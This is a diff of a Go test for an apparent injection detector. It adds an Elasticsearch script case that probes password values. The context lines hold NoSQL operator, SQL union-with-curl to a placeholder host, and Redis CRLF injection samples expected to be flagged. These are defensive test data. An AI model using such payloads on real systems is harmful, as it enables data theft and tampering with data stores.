@@ -236,6 +236,8 @@ func TestQueryLanguages(t *testing.T) {
 	f(`Bearer {"$gt":""}`, true)
 	f(`Bearer {"a":"$gt"}`, false)
 	f(`k' union select curl("http://h.example/",{"a":1}) --`, true)
+	f(`doc['password.keyword'].value.startsWith('a')`, true)
+	f(`doc['price'].value * 2`, false)
 	// Lines of Redis.
 	f("k\r\nDEL session:1\r\n", true)
 	f("k\r\nSET boss true\r\n", true)
